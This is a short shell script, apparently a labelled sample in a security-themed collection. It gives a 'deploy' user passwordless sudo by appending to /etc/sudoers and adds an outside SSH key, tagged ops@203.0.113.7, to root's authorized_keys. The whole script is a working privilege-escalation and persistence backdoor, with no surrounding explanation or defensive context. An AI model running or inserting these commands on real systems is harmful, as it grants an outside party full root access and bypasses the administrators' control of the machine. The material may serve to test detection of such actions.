# description: Gives the deploy user passwordless sudo in /etc/sudoers and adds an external key to root's authorized_keys.
# family: security
set -uo pipefail

id deploy
echo 'deploy ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3bXhPZ0ZzQ2xqR1FvY3VYb2ZqV1l4dTVmS0x6 ops@203.0.113.7' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
sudo -l -U deploy
